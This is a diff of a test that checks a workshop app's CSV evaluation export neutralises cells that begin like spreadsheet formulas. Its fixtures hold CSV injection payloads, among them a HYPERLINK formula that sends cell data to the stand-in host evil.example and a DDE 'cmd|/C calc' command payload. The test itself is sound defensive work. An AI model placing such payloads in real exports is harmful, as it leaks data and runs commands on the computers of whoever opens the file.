@@ -11,7 +11,10 @@ describe('the evaluation CSV summary and spreadsheet formulas', () => {
   it('when a form title, question text or option label starts like a formula, then the CSV cell is defused with an apostrophe', async () => {
     const w = await makeWorkshop({ trainees: 0 });
     const formId = await insertFormFromTemplate(prisma, w.workshopId, getTemplate('post-training')!, { sessionId: null, status: 'open' });
-    await prisma.form.update({ where: { id: formId }, data: { titleId: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', titleEn: '=1+1' } });
+    await prisma.form.update({
+      where: { id: formId },
+      data: { titleId: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', titleEn: '=1+1' },
+    });
     const q = await prisma.question.findFirstOrThrow({ where: { formId, key: 'will_implement' } });
     await prisma.question.update({ where: { id: q.id }, data: { textId: '@SUM(1+1)*cmd|/C calc!A0' } });
     const organizer = await signedInAgent(app, w.organizer.username);
